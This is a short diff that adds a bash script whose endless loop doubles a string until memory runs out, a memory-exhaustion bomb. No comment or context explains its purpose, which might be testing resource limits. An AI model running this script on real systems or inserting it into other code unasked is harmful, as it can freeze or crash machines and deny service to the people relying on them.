@@ -1,0 +1,3 @@
+#!/bin/bash
+x=a
+while true; do x="$x$x"; done
